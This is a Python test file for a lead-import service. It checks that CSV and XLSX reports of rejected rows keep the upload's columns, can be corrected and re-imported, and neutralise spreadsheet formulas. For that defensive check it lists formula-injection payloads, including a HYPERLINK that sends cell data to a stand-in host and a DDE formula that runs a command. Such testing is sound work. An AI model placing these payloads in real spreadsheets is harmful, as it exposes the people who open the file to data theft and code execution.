"""Rows that did not become leads, as a file that can be corrected and imported again."""

import csv
import io
from typing import Any

import openpyxl
import pytest

from libs.contracts.lead_import.words import words
from libs.spreadsheets.columns import REPORT_COLUMNS
from tests.support.readers import Stored
from tests.support.user import COLUMNS, XLSX_TYPE, User, csv_file, lead_rows, new_phones, totals, xlsx_file

PHONE_INVALID = words("en").row_errors["phone_invalid"]
PHONE_IN_PORTUGUESE = words("pt-BR").row_errors["phone_invalid"]
SKIP = {"on_invalid_row": "skip"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"ver")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]


async def download(user: User, import_id: int, kind: str, **query: Any) -> bytes:
    answer = await user.get(f"/imports/{import_id}/rows", format=kind, **query)
    assert answer.status_code == 200, answer.text
    expected = "text/csv" if kind == "csv" else XLSX_TYPE
    assert answer.headers["content-type"].split(";")[0] == expected
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith("attachment")
    assert f".{kind}" in disposition
    return answer.content


def read(content: bytes, kind: str) -> list[list[str]]:
    """Read a report as a spreadsheet program would; no cell is a formula."""
    if kind == "csv":
        text = content.decode("utf-8-sig")
        first = text.splitlines()[0]
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if ";" in first else ","))
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    return [[str(cell or "") for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_report_has_the_files_own_columns(user: User, kind: str) -> None:
    (phone,) = new_phones(1)
    bad = [
        ["José Antônio", "ligar depois", "529.982.247-25", "jose@clinica.com.br", "VIP, Zona Sul"],
        ['Duas\nlinhas; e vírgula, e "aspas" 🌸', "x", "", "", ""],
    ]
    found = await user.run(csv_file([*lead_rows([phone]), *bad, *lead_rows([phone])]), on_invalid_row="skip")
    header, *rows = read(await download(user, found["id"], kind), kind)
    assert header == [*COLUMNS, *REPORT_COLUMNS]
    why = [["3", "error", "phone: " + PHONE_INVALID], ["4", "error", "phone: " + PHONE_INVALID]]
    known = [[*lead_rows([phone])[0], "5", "existing", "The same phone stands in an earlier row of this file."]]
    errors = [[*cells, *said] for cells, said in zip(bad, why, strict=True)]
    assert rows == errors + known
    assert read(await download(user, found["id"], kind, outcome="error"), kind)[1:] == errors
    assert read(await download(user, found["id"], kind, outcome="existing"), kind)[1:] == known
    assert read(await download(user, found["id"], kind, reason="in_file"), kind)[1:] == known


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_report_can_be_corrected_and_imported_again(user: User, stored: Stored, kind: str) -> None:
    first, second, third = new_phones(3)
    rows = [
        ["Com mais", f"+55 {first}", "111.111.111-11", "", "-10% de desconto"],
        ["+Saúde", f"({second[:2]}) {second[2:]}", "111.111.111-11", "", ""],
        ["=Igual", f"{third}", "01234567890", "sem arroba", ""],
    ]
    found = await user.run(csv_file(rows), on_invalid_row="skip")
    assert totals(found) == (0, 0, 3)
    header, *reported = read(await download(user, found["id"], kind), kind)
    for cells in reported:
        cells[2] = cells[2].replace("111.111.111-11", "529.982.247-25")
        cells[3] = ""
    corrected = csv_file(reported, header) if kind == "csv" else xlsx_file(reported, header)
    said = await user.previewed(corrected, file_name=f"leads.{kind}")
    assert (said["parent_id"], said["left_out"]) == (found["id"], [])
    again = await user.upload(corrected, file_name=f"leads.{kind}")
    assert again.status_code == 202, again.text
    assert again.json()["parent_id"] == found["id"]
    ended = await user.ended(again.json()["id"])
    assert (totals(ended), ended["parent_id"]) == ((3, 0, 0), found["id"])
    assert (await user.read(found["id"]))["child_ids"] == [ended["id"]]
    leads = {lead["contact_cellphone"]: lead for lead in await stored.leads(user.tenant.company_id)}
    assert set(leads) == {first, second, third}
    assert [leads[phone]["name"] for phone in (first, second, third)] == ["Com mais", "+Saúde", "=Igual"]
    assert leads[first]["tags"] == ["-10% de desconto"]
    assert leads[third]["cpf"] == "01234567890"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_report_sent_again_as_its_import_was_stores_what_the_file_had(
    user: User, stored: Stored, kind: str
) -> None:
    (phone,) = new_phones(1)
    notes = "\n".join(f"{number}: ligou; pediu preço" + "." * 60 for number in range(110))
    header = ["Cidade", "Observações " + "x" * 300, "Fone", "Nome"]
    asked = {"columns": "mapped", "mapping": {header[1][:255]: "notes", "Cidade": None}, **SKIP}
    found = await user.run(csv_file([["Santos", notes, "ligar depois", "Ana"]], header), **asked)
    report_header, *rows = read(await download(user, found["id"], kind), kind)
    rows[0][report_header.index("Fone")] = phone
    corrected = csv_file(rows, report_header) if kind == "csv" else xlsx_file(rows, report_header)
    again = await user.run(corrected, file_name=f"leads.{kind}", **asked)
    assert (totals(again), again["parent_id"]) == ((1, 0, 0), found["id"])
    (lead,) = await stored.leads(user.tenant.company_id)
    assert lead["notes"] == notes


async def test_a_report_of_an_upload_that_declares_its_separator_can_be_imported_again(user: User) -> None:
    """No program finds a bar out by itself, and what a declaration is for depends on the program."""
    (phone,) = new_phones(1)
    upload = f"sep=|\nname|phone|cpf|email|tags\nAna; a {phone}|ligar depois|||vip\n"
    found = await user.run(upload.encode(), on_invalid_row="skip")
    report = await download(user, found["id"], "csv")
    again = await user.upload(report.replace(b"ligar depois", phone.encode()))
    assert again.status_code == 202, again.text
    assert totals(await user.ended(again.json()["id"])) == (1, 0, 0)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_formulas_are_neutralised(user: User, kind: str) -> None:
    rows = [[formula, formula, formula, formula, formula] for formula in FORMULAS]
    found = await user.run(csv_file(rows), on_invalid_row="skip")
    assert totals(found) == (0, 0, len(rows))
    _, *reported = read(await download(user, found["id"], kind), kind)
    assert len(reported) == len(rows)
    for cells, formula in zip(reported, FORMULAS, strict=True):
        for cell in cells[: len(COLUMNS)]:
            assert formula.strip() in cell
            if kind == "csv":  # in a workbook a text cell is text; its type was checked
                assert cell[0] not in "=+-@\t\r\n"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
async def test_a_csv_report_is_divided_as_the_upload_was(user: User, separator: str) -> None:
    lines = [list(COLUMNS), ["Ana; =1, =2", "x", "", "", ""]]
    content = "".join(separator.join(f'"{cell}"' for cell in line) + "\r\n" for line in lines).encode()
    found = await user.run(content, on_invalid_row="skip")
    report = (await download(user, found["id"], "csv")).decode("utf-8-sig")
    assert report.splitlines()[0] == separator.join([*COLUMNS, *REPORT_COLUMNS])
    assert next(csv.reader(report.splitlines()[1:], delimiter=separator))[0] == "Ana; =1, =2"


async def test_a_csv_report_of_a_workbook_is_divided_at_semicolons(user: User) -> None:
    found = await user.run(xlsx_file([["Ana", "x", "", "", ""]]), file_name="leads.xlsx", on_invalid_row="skip")
    report = (await download(user, found["id"], "csv")).decode("utf-8-sig")
    head, row = report.splitlines()
    assert head == "name;phone;cpf;email;tags;row;outcome;reason"
    assert next(csv.reader([row], delimiter=";")) == ["Ana", "x", "", "", "", "2", "error", "phone: " + PHONE_INVALID]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_a_report_without_rows_is_a_header(user: User, kind: str) -> None:
    found = await user.run(csv_file(lead_rows(new_phones(1))))
    assert read(await download(user, found["id"], kind), kind) == [[*COLUMNS, *REPORT_COLUMNS]]


async def test_a_report_holds_all_rows_not_a_page(user: User) -> None:
    (phone,) = new_phones(1)
    found = await user.run(csv_file(lead_rows([phone] * 1_300)))
    assert totals(found) == (1, 1_299, 0)
    for kind in ("csv", "xlsx"):
        assert len(read(await download(user, found["id"], kind), kind)) == 1_300


WIDE = "Cidade;WhatsApp;Nome\r\nSantos;{};Ana\r\nRio;12;Rui\r\nRio;13;Bia;sobra;mais\r\n"


@pytest.mark.parametrize(("language", "sentence"), [("en", PHONE_INVALID), ("pt-BR", PHONE_IN_PORTUGUESE)])
async def test_a_report_of_columns_of_ones_own_is_in_their_order_and_in_the_callers_language(
    user: User, language: str, sentence: str
) -> None:
    content = WIDE.format(*new_phones(1)).encode()
    found = await user.run(content, columns="mapped", on_invalid_row="skip")
    query = f"/imports/{found['id']}/rows?format=csv"
    answer = await user.http.get(query, headers=user.tenant.headers() | {"Accept-Language": language})
    assert answer.headers["content-language"] == language
    assert list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=";")) == [
        ["WhatsApp", "Nome", words(language).labels["cells_too_many"], "row", "outcome", "reason"],
        ["12", "Rui", "", "3", "error", f"phone: {sentence}"],
        ["13", "Bia", "sobra | mais", "4", "error", words(language).row_errors["cells_too_many"]],
    ]
    again = await user.run(answer.content, columns="mapped", on_invalid_row="skip")
    assert (again["parent_id"], again["reasons"]) == (found["id"], {"phone_invalid": 1, "cells_too_many": 1})


async def test_created_rows_say_their_lead_and_chat(user: User, stored: Stored) -> None:
    phones = new_phones(3)
    found = await user.run(csv_file([*lead_rows(phones[:2]), ["", "x", "", "", ""], *lead_rows(phones[2:])]), **SKIP)
    leads = {lead["contact_cellphone"]: lead for lead in await stored.leads(user.tenant.company_id)}
    expected = [
        {
            "row": row,
            "outcome": "created",
            "lead_id": leads[phone]["id"],
            "chat_id": leads[phone]["chat_id"],
            "name": f"Lead {phone}",
        }
        for row, phone in zip((2, 3, 5), phones, strict=True)
    ]
    assert await user.rows(found["id"], outcome="created") == expected
    assert await user.rows(found["id"], outcome="created", reason="lead_exists") == [], "those have none"
    page = (await user.get(f"/imports/{found['id']}/rows", outcome="created", limit=2)).json()
    assert (page["items"], page["next"]) == (expected[:2], "3")
    header, *rows = read(await download(user, found["id"], "csv", outcome="created"), "csv")
    assert (header[0], [row[0] for row in rows]) == ("row", ["2", "3", "5"])


async def test_a_phone_in_a_workbook_has_no_mark_before_its_plus(user: User) -> None:
    found = await user.run(csv_file([["", "+55 11 91234-5678", "", "", ""]]), **SKIP)
    assert read(await download(user, found["id"], "xlsx"), "xlsx")[1][1] == "+55 11 91234-5678"


async def test_a_report_of_another_import_is_not_taken_for_a_parent(user: User) -> None:
    await user.run(csv_file([["Ana", "x", "", "", ""]]), **SKIP)
    header = [*COLUMNS, *REPORT_COLUMNS]
    row = ["Rui", *new_phones(1), "", "", "", "2", "error", "?"]
    assert (await user.previewed(csv_file([row], header)))["parent_id"] is None
